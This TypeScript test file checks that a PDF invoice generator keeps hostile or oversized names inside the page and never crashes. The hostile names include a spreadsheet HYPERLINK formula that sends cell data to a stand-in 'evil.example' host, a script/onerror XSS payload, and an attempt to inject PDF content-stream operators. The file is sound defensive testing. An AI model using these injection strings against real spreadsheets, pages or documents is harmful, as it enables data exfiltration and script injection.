import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { DocumentSource } from '../../domain/documents.js';
import { installedFonts } from './installed-fonts.fixture.js';
import { dollarSource, euroSource } from './pdf-sources.fixture.js';
import { readPdf, type ReadPdf } from './read-pdf.fixture.js';
import { writePdf } from './write-pdf.js';

const fonts = installedFonts(readFile);
const names = [
  'Harbour & Finch Department of Uncommonly Long Names '.repeat(100).slice(0, 5_000),
  'x'.repeat(5_000),
  'هاربور آند فينش للتجارة \u202E(דפרטמנט)',
  '=HYPERLINK("https://evil.example/?"&A1,"Pay here")',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '😀👩‍👩‍👧 漢字 日本語 ไทย',
  '\ud800\u0000\u200b\ufeff',
  ') Tj ET Q endstream endobj (',
];

/** The name in every place of a document that a customer or a biller fills. */
const everywhere = (name: string, source: DocumentSource): DocumentSource => {
  const party = { name, lines: [name, name], city: name, postalCode: name, region: name, country: 'US' };
  const { invoice, biller, profile } = source;
  return {
    ...source,
    biller: { ...biller, name, vatId: name, registrationId: name, address: party },
    buyer: { ...party, vatId: name, reference: name },
    ...(profile && {
      profile: {
        ...profile,
        remittance: profile.remittance.map((way) => ({ ...way, beneficiary: name, bank: name, account: name, address: party })),
      },
    }),
    invoice: {
      ...invoice,
      number: name,
      accountNumber: name,
      poNumber: name,
      reference: name,
      paymentTerms: name,
      remittanceRef: name,
      remitTo: party,
      billTo: party,
      billingContact: { name, phone: name, email: name, hours: name },
      total: { minor: 100_000_000_000_000, currency: invoice.currency },
      balance: { minor: 100_000_000_000_000, currency: invoice.currency },
      lines: invoice.lines.map((line) => ({
        ...line,
        description: name,
        category: name,
        reference: name,
        quantity: name,
        net: { minor: -100_000_000_000_000, currency: invoice.currency },
        tax: { minor: 100_000_000_000_000, currency: invoice.currency },
      })),
      taxes: [{ category: name, rate: name, base: invoice.total, amount: invoice.total, exemptionReason: name }],
    },
  };
};

const read = async (source: DocumentSource): Promise<ReadPdf> =>
  readPdf(await writePdf([source], { detail: 'detail', locale: 'en', kind: 'invoice', fonts }));

const assertInside = ({ pages }: ReadPdf): void => {
  assert.ok(pages.length < 12, `${pages.length} pages`);
  for (const { right, width, lowest } of pages) {
    assert.ok(right <= width - 47, `${right} of ${width}`);
    assert.ok(lowest >= 20, `${lowest}`);
  }
};

describe('names that break what is careless', () => {
  for (const name of names) {
    it(`stay inside the page: ${JSON.stringify(name.slice(0, 30))}`, async () => {
      assertInside(await read(everywhere(name, dollarSource())));
    });
  }

  it('are shown as they are, where there are letters for them, and else as a sign that something is there', async () => {
    const { text, pages } = await read(everywhere('<b>Ω 漢 \u0e17</b>', euroSource()));
    assert.ok(text.includes('<b>'));
    assert.ok(text.includes('\ufffd'));
    assert.ok(pages.length > 0);
  });

  it('cannot turn round what stands beside them', async () => {
    const { text } = await read(everywhere('abc\u202Edef', euroSource()));
    assert.ok(text.includes('abcdef'));
  });

  it('never throw, whatever they are', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 80 }), async (name) => {
        const bytes = await writePdf([everywhere(name, dollarSource())], { detail: 'detail', locale: 'en', kind: 'invoice', fonts });
        assert.ok(bytes.length > 0);
      }),
      { numRuns: 25 },
    );
  });

  it('are drawn without any font at all as nothing, and the file is whole', async () => {
    const none = async (): Promise<readonly Uint8Array[]> => Promise.resolve([]);
    const bytes = await writePdf([euroSource()], { detail: 'summary', locale: 'en', kind: 'invoice', fonts: none });
    assert.equal((await readPdf(bytes)).bookmarks.length, 1);
  });
});
